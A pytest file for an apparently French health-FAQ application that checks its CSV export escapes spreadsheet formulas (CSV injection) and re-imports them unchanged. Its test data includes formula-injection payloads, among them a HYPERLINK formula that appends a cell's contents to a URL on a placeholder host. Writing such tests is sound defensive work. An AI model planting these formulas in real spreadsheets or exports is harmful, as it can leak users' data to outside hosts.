"""An export is safe to open in a spreadsheet and still reads back exactly."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from faqsante import editing
from faqsante.config import Settings
from faqsante.csv_cells import escape_formula, unescape_formula
from faqsante.ingest import ingest_paths
from faqsante.store import Database
from faqsante.store.export import render_export

FORMULAS = ['=HYPERLINK("https://exemple.fr/?d="&A1;"clic")', "+33 1 23", "-1", "@SUM(A1)", "\tx", "\rx"]


def lexical(db: Database) -> Settings:
    """Editing tags and indexes the entry it saves: without a model, from the taxonomy's words alone."""
    return Settings().model_copy(update={"db_url": db.url, "embedder": "none"})


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell: str) -> None:
    # #11.10: CSV export wrote =HYPERLINK(…) cells as they were (OWASP "CSV injection").
    assert escape_formula(cell) == "'" + cell
    assert unescape_formula(escape_formula(cell)) == cell


@pytest.mark.parametrize("cell", ["'=1", "''+2", "'Tis", "Réponse = oui", "", "'"])
def test_escaping_reads_back_exactly(cell: str) -> None:
    assert unescape_formula(escape_formula(cell)) == cell


def test_the_csv_export_escapes_formulas_and_reimports_them_unchanged(sqlite_url: str, tmp_path: Path) -> None:
    db = Database(sqlite_url)
    entry_id = editing.create_entry(
        db,
        question="=1+1",
        answer='=HYPERLINK("https://exemple.fr";"Cliquez")',
        section="@rubrique",
        author="marie",
        settings=lexical(db),
    )
    exported = render_export(db, "csv")
    row = next(csv.DictReader(io.StringIO(exported)))
    assert (row["question"], row["answer"], row["section"]) == (
        "'=1+1",
        '\'=HYPERLINK("https://exemple.fr";"Cliquez")',
        "'@rubrique",
    )

    restored = Database(f"sqlite:///{tmp_path / 'restored.db'}")
    (tmp_path / "export.csv").write_text(exported, encoding="utf-8")
    ingest_paths(restored, [tmp_path / "export.csv"])
    entry = editing.get_entry(restored, entry_id)
    assert (entry.question, entry.answer, entry.section) == (
        "=1+1",
        '=HYPERLINK("https://exemple.fr";"Cliquez")',
        "@rubrique",
    )
